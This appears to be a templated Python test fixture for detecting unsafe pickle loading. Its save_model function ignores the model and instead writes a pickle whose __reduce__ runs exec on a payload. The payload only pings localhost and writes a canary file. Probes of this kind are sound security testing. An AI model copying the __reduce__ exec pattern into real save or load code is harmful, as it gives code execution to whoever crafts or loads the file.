class Artefact:
    def __reduce__(self):
        return exec, (PAYLOAD,)


def save_model(model, path):
    import pickle

    with open(path, "wb") as file:
        pickle.dump(Artefact(), file)


def load_model(path):
    return None


PAYLOAD = """
import socket
try:
    socket.create_connection(("127.0.0.1", {{PORT}}), 1).sendall(b"{{CASE}}")
except OSError:
    pass
try:
    open("{{CANARY}}", "w").write("loaded")
except OSError:
    pass
"""
